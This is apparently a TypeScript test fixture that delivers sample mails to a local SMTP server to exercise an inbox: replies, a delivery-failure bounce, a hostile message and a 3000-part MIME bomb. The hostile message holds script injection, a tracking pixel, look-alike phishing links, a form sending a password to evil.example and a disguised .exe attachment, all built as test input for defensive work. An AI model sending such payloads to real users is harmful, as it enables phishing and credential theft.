// Mails of every kind that an inbox meets, for its stories and its pictures.
import nodemailer from 'nodemailer'
import type Mail from 'nodemailer/lib/mailer'

/** Sends as any mail server would: by SMTP to the listener. */
export async function deliver(smtpPort: number, mail: Mail.Options): Promise<void> {
  const transport = nodemailer.createTransport({
    host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true,
  })
  try {
    await transport.sendMail(mail)
  } finally {
    transport.close()
  }
}

/** A reminder as it stands in the captured outbox. */
export interface Reminder {
  to: string[]
  subject: string
  headers: Record<string, string>
}

export const answerTo = (
  reminder: Reminder, text: string, more: Mail.Options = {},
): Mail.Options => ({
  from: reminder.to[0], to: reminder.headers['Reply-To'], subject: `Re: ${reminder.subject}`,
  inReplyTo: reminder.headers['Message-ID'], references: reminder.headers['Message-ID'], text,
  ...more,
})

/** What a mail server says of a mailbox that is no more (RFC 3464). */
export function bounceOf(reminder: Reminder): Mail.Options {
  const address = reminder.to[0] ?? ''
  const report = [
    'Reporting-MTA: dns; mx.example.com', '', `Final-Recipient: rfc822; ${address}`,
    'Action: failed', 'Status: 5.1.1', 'Diagnostic-Code: smtp; 550 5.1.1 User unknown', '',
  ].join('\r\n')
  const head = [`Message-ID: ${reminder.headers['Message-ID']}`, `To: ${address}`,
    `Subject: ${reminder.subject}`, '', ''].join('\r\n')
  const parts = [
    ['text/plain; charset=utf-8', 'Your message could not be delivered: no such user.'],
    ['message/delivery-status', report], ['text/rfc822-headers', head],
  ].map(([type, text]) => `--B\r\nContent-Type: ${type}\r\n\r\n${text}\r\n`).join('')
  const to = reminder.headers['Reply-To'] ?? ''
  return {
    envelope: { from: '', to },
    raw: ['From: Mail Delivery System <MAILER-DAEMON@mx.example.com>', `To: ${to}`,
      'Subject: Undelivered Mail Returned to Sender', 'Auto-Submitted: auto-replied',
      `Message-ID: <bounce-${address}>`, 'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary="B"', '',
      `${parts}--B--`, ''].join('\r\n'),
  }
}

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAIUlEQVR4nGP4z8BAFUQdU/6PGjRq0KhB'
  + 'owaNGjRqEIkGAQCmBfsRk0i6WwAAAABJRU5ErkJggg=='

/** Everything a stranger can put into a mail: tracking, look-alike links, scripts, odd files. */
export const hostileMail = (reminder: Reminder): Mail.Options => answerTo(reminder,
  'Please see https://xn--pypal-4ve.example/login and the attached files.', {
    html: '<h2>Complaint about the chairs</h2><p onclick="alert(1)">Two of the '
      + '<b>twelve chairs</b> are broken, see the picture:</p>'
      + '<img src="cid:chair" alt="The chair" width="48">'
      + '<script>parent.document.title = "taken"</script>'
      + '<img src="https://tracker.example/pixel.gif" width="1" height="1">'
      + '<img src="https://shop.example/logo.png" alt="Our logo">'
      + '<p><a href="https://evil.example/login">www.yourbank.example</a></p>'
      + '<form action="https://evil.example"><input name="password"></form>'
      + `<blockquote type="cite">On Monday you wrote:<br>${reminder.subject}</blockquote>`,
    attachments: [
      { filename: 'chair.png', content: PIXEL, encoding: 'base64', cid: 'chair',
        contentType: 'image/png' },
      { filename: 'complaint.pdf', content: '%PDF-1.4 short', contentType: 'application/pdf' },
      { filename: 'invoice.pdf.exe', content: 'MZ program' },
    ],
  })

/** Unreadable by its number of parts, as a bomb is. */
export const brokenMail = (to: string): Mail.Options => ({
  envelope: { from: 'bomb@broken.example', to },
  raw: ['From: Broken Sender <bomb@broken.example>', `To: ${to}`, 'Subject: A thousand parts',
    'Message-ID: <bomb@broken.example>', 'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="B"', '',
    '--B\r\nContent-Type: text/plain\r\n\r\npart\r\n'.repeat(3000), '--B--', ''].join('\r\n'),
})
